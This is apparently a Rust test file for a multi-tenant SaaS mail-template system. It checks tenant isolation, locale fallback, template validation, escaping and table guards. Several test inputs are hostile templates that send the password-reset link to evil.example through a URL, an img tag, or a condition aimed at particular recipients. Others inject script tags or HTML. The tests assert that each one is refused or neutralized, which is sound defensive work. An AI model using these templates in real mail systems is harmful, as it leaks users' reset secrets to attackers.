//! Words of the program and of tenants.

use saas_core::{
    Code, Problem,
    mail::{Letter, MailTemplate, MailTenant, Mailer as _},
};
use saas_mail::{Error, FolderMailer, MODULE, Part, TemplateSource, Templates};
use saas_tenancy::{AuditRecord, PageQuery};

use crate::world::{RESET, World, letter, named, words};

const ANN: &str = "ann@example.com";

#[tokio::test]
async fn words_of_a_tenant_are_those_of_its_letters_and_of_no_other() {
    for world in World::all().await {
        world.set(None, &words("Servus")).await.unwrap();
        let acme = world.mail(letter(&world.acme, ANN)).await;
        assert!(acme.contains("Subject: Servus Ann"), "{acme}");
        let beta = world.mail(letter(&world.beta, ANN)).await;
        assert!(
            beta.contains("Subject: Your password at BETA, Ann"),
            "{beta}"
        );
        assert!(!beta.contains("Servus"), "{beta}");

        // The other can neither see nor remove them.
        let mut tx = world.tx(&world.beta);
        assert!(world.templates.list(&mut tx).await.unwrap().is_empty());
        let removed = world.templates.remove(&mut tx, "auth/reset", None).await;
        assert!(
            matches!(removed, Err(Error::UnknownTemplate(_))),
            "{removed:?}"
        );
        drop(tx);

        // Changed, and given back.
        world.set(None, &words("Moin")).await.unwrap();
        let acme = world.mail(letter(&world.acme, ANN)).await;
        assert!(acme.contains("Subject: Moin Ann"), "{acme}");
        let mut tx = world.tx(&world.acme);
        assert_eq!(world.templates.list(&mut tx).await.unwrap().len(), 1);
        world
            .templates
            .remove(&mut tx, "auth/reset", None)
            .await
            .unwrap();
        tx.commit().await.unwrap();
        let acme = world.mail(letter(&world.acme, ANN)).await;
        assert!(acme.contains("Subject: Your password at ACME"), "{acme}");

        let mut tx = world.tx(&world.acme);
        let query = PageQuery::new().filter(AuditRecord::OBJECT.eq("mail-template:auth/reset"));
        let records = tx.repo::<AuditRecord>().list(query).await.unwrap().items;
        let mut actions: Vec<_> = records
            .iter()
            .map(|record| record.action.as_str())
            .collect();
        actions.sort_unstable();
        let expected = [
            "mail-template.changed",
            "mail-template.created",
            "mail-template.removed",
        ];
        assert_eq!(actions, expected);
    }
}

#[tokio::test]
async fn the_closest_language_is_taken() {
    for world in World::all().await {
        world.set(None, &words("Hello")).await.unwrap();
        world.set(Some("de"), &words("Hallo")).await.unwrap();
        world.set(Some("de-CH"), &words("Grüezi")).await.unwrap();
        for (asked, word) in [
            (None, "Hello"),
            (Some("de"), "Hallo"),
            (Some("de-AT"), "Hallo"),
            (Some("de-ch-1996"), "=C3=BCezi"),
            (Some("den"), "Hello"),
            (Some("fr"), "Hello"),
        ] {
            let mut draft = letter(&world.acme, ANN);
            if let Some(asked) = asked {
                draft = draft.locale(asked);
            }
            let mail = world.mail(draft).await;
            assert!(mail.contains(word), "{asked:?} {mail}");
        }
        let wrong = world.set(Some("de_CH"), &words("x")).await;
        assert!(matches!(wrong, Err(Error::InvalidLocale)), "{wrong:?}");
    }
}

#[tokio::test]
async fn words_that_do_not_work_out_are_refused_with_their_part_and_line() {
    let world = World::sqlite().await;
    let good = words("Hello");
    let subject = |subject: &str| TemplateSource {
        subject: subject.to_owned(),
        ..good.clone()
    };
    let text = |text: &str| TemplateSource {
        text: text.to_owned(),
        ..good.clone()
    };
    let html = |html: &str| TemplateSource {
        html: html.to_owned(),
        ..good.clone()
    };
    let link = "<a href=\"{{ link }}\">x</a>";
    for (source, part, line) in [
        (subject("{{ nobody }}"), Part::Subject, Some(1)),
        (subject("{{ link }}"), Part::Subject, Some(1)),
        (subject(" \n "), Part::Subject, None),
        (subject(&"x".repeat(1_000)), Part::Subject, None),
        (text("{{ link }}\n\n{{ name"), Part::Text, Some(3)),
        (text("{{ link }}\n{{ name.first }}"), Part::Text, Some(2)),
        (text("{{ link }}\n{{ name|shout }}"), Part::Text, Some(2)),
        (text("{{ link }}\n{% if name %}"), Part::Text, Some(2)),
        (
            text("{{ link }}\n{% for x in name %}{% endfor %}"),
            Part::Text,
            Some(2),
        ),
        (
            text("{{ link }} {{ 'x' * 100000000 }}"),
            Part::Text,
            Some(1),
        ),
        (text("no link"), Part::Text, None),
        (text("{{ link|upper }}"), Part::Text, None),
        (
            text("a\nhttps://evil.example/?{{ link }}"),
            Part::Text,
            Some(2),
        ),
        (html("<p>no link</p>"), Part::Html, None),
        (html(&format!("{link}\n<script>")), Part::Html, Some(2)),
        (
            html(&format!(
                "{link}<img src=\"https://evil.example/{{{{ link }}}}\">"
            )),
            Part::Html,
            Some(1),
        ),
        (
            html(&format!("{link}<img src=https://evil.example>")),
            Part::Html,
            Some(1),
        ),
        (
            html(&format!("{link}{}", " ".repeat(70_000))),
            Part::Html,
            None,
        ),
    ] {
        let refused = world.set(None, &source).await;
        let Err(Error::Template { fault, .. }) = &refused else {
            panic!("{source:?} {refused:?}");
        };
        assert_eq!((fault.part, fault.line), (part, line), "{fault}");
        let problem = Problem::from(refused.unwrap_err());
        assert_eq!(problem.code(), Code::VALIDATION);
    }
    let mut tx = world.tx(&world.acme);
    assert!(world.templates.list(&mut tx).await.unwrap().is_empty());
    let unknown = world
        .templates
        .set(&mut tx, "auth/other", None, &good)
        .await;
    assert!(
        matches!(unknown, Err(Error::UnknownTemplate(_))),
        "{unknown:?}"
    );
    drop(tx);
    // Conditions are looked at from both sides.
    let hidden = text("{{ link }}{% if not name %}{{ nobody }}{% endif %}");
    assert!(world.set(None, &hidden).await.is_err());
    let mail = world
        .templates
        .preview(&world.acme, "auth/reset", &good)
        .unwrap();
    assert_eq!(mail.subject(), "Hello Sample of name");
    assert!(mail.text().contains("https://example.com/link"));
}

#[tokio::test]
async fn words_that_fail_for_a_letter_are_left_aside() {
    let world = World::sqlite().await;
    // It passes with samples, and carries the secret away for one person.
    let source = TemplateSource {
        text: "{% if name == 'Bob' %}https://evil.example/?{% endif %}{{ link }}".to_owned(),
        html: "<a href=\"{{ link }}\">x</a>{% if name == 'Eve' %}<img src=\"https://evil.example/{{ link }}\">{% endif %}"
            .to_owned(),
        ..words("Servus")
    };
    world.set(None, &source).await.unwrap();
    let ann = world.mail(named(&world.acme, ANN, "Ann")).await;
    assert!(ann.contains("Subject: Servus Ann"), "{ann}");
    for name in ["Bob", "Eve"] {
        let mail = world.mail(named(&world.acme, ANN, name)).await;
        assert!(mail.contains("Subject: Your password at ACME"), "{mail}");
        assert!(!mail.contains("evil"), "{mail}");
    }
}

#[tokio::test]
async fn a_huge_mail_is_refused() {
    let world = World::sqlite().await;
    let mailer = FolderMailer::open(&world.config, world.templates.clone()).unwrap();
    let source = TemplateSource {
        subject: "Servus".to_owned(),
        html: format!(
            "<a href=\"{{{{ link }}}}\">x</a>{}",
            "{{ name }}".repeat(100)
        ),
        ..words("Servus")
    };
    world.set(None, &source).await.unwrap();
    let refused = async |name: &str| {
        let letter = named(&world.acme, ANN, name).finish().unwrap();
        mailer.deliver(&letter).await.err()
    };
    assert_eq!(refused(&"n".repeat(2_000)).await, None);
    // Those of the tenant are too long by the HTML, those of the program by the subject.
    let error = refused(&"n".repeat(4_000)).await.unwrap();
    assert!(!error.retryable(), "{error}");
    assert!(
        error.to_string().contains("subject") && !error.to_string().contains("nnn"),
        "{error}"
    );
}

#[tokio::test]
async fn lif_06_values_are_escaped_in_html_and_stay_as_they_are_in_text() {
    let world = World::sqlite().await;
    for source in [None, Some(words("Hello"))] {
        if let Some(source) = &source {
            world.set(None, source).await.unwrap();
        }
        let mail = world
            .mail(named(&world.acme, ANN, "<img src=x> \"'&{{ link }}"))
            .await;
        let html = &mail[mail.find("text/html").unwrap()..];
        assert!(
            html.contains("&lt;img src=3Dx&gt;") || html.contains("&lt;img src=x&gt;"),
            "{html}"
        );
        assert!(!html.contains("<img"), "{html}");
        // A value is no template.
        assert!(mail.contains("{{ link }}"), "{mail}");
        // The secret is escaped as well.
        assert!(
            html.contains("a=3D1&amp;token") || html.contains("a=1&amp;token"),
            "{html}"
        );
    }
}

#[tokio::test]
async fn templates_of_the_program_are_rendered_when_it_starts() {
    let world = World::sqlite().await;
    let open = |templates: &[MailTemplate]| {
        Templates::new(world.db.database().clone(), world.db.registry(), templates)
    };
    for wrong in [
        RESET.text("{{ nobody }}"),
        RESET.subject("{{ link }}"),
        RESET.html("{% set x = 1 %}"),
        RESET.html(""),
    ] {
        assert!(
            matches!(open(&[wrong]), Err(Error::Template { .. })),
            "{wrong:?}"
        );
    }
    assert!(matches!(
        open(&[RESET, RESET]),
        Err(Error::DuplicateTemplate(_))
    ));
    assert!(matches!(
        open(&[RESET.values(&["tenant"])]),
        Err(Error::Letter(_))
    ));
    assert_eq!(open(&[RESET]).unwrap().all().count(), 1);
}

#[tokio::test]
async fn a_letter_of_nobody_is_refused_and_a_tenant_has_so_many_words() {
    let world = World::sqlite().await;
    let mailer = FolderMailer::open(&world.config, world.templates.clone()).unwrap();
    let nobody = MailTenant::new(saas_core::TenantId::generate(), "nobody", "Nobody");
    let stray = Letter::to(ANN, RESET, nobody, "k")
        .value("name", "x")
        .secret("link", "x");
    let refused = mailer.deliver(&stray.finish().unwrap()).await.unwrap_err();
    assert!(!refused.retryable(), "{refused}");

    let mut tx = world.tx(&world.acme);
    let mut last = Ok(());
    for index in 0..=200 {
        let locale = format!("a{index}");
        let (templates, source) = (&world.templates, words("x"));
        last = templates
            .set(&mut tx, "auth/reset", Some(&locale), &source)
            .await;
    }
    assert!(
        matches!(last, Err(Error::TooManyTemplates(200))),
        "{last:?}"
    );
}

#[tokio::test]
async fn without_the_database_a_letter_may_be_delivered_later() {
    let world = World::sqlite().await;
    let mailer = FolderMailer::open(&world.config, world.templates.clone()).unwrap();
    let waiting = letter(&world.acme, ANN).finish().unwrap();
    world.db.database().close().await;
    assert!(mailer.deliver(&waiting).await.unwrap_err().retryable());
}

#[test]
fn the_guards_are_those_of_the_entities() {
    let file = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/migrations/postgres/0002_guards.sql"
    );
    saas_testkit::assert_reference(file, &MODULE.guards());
}

#[tokio::test]
async fn the_tables_are_guarded_as_the_entities_say() {
    for world in World::all().await {
        let modules = [&saas_tenancy::MODULE, &MODULE];
        let findings = saas_tenancy::verify(world.db.database(), &modules)
            .await
            .unwrap();
        assert!(findings.is_empty(), "{findings:?}");
    }
}
